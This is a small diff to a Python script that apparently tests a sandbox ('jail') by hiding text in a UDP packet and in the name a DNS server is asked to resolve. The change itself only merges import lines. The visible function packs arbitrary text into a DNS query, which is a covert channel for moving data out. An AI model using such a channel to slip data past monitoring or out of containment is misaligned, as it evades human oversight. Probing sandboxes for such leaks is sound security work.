@@ -1,7 +1,6 @@
 # tries: the hidden input in a UDP packet, and in the name that a DNS server is asked for
 # needs: jail
-import socket
-import struct
+import socket, struct
 
 def say(text):
     query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + bytes([len(text)]) + text.encode() + b"\0\0\1\0\1"
